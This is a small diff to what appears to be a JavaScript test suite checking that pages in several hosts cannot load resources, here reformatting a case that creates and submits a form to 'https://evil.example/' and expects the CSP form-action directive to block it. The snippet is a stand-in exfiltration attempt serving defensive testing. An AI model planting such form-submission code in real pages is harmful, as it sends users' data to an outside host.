@@ -59,7 +59,8 @@ describe.each(HOSTS)('a page in the %s host', (name) => {
     ],
     [
       'a form',
-      `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit();`,
+      `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); ` +
+        `f.submit();`,
       'form-action',
     ],
   ])('cannot load %s', async (_what, attempt, directive) => {
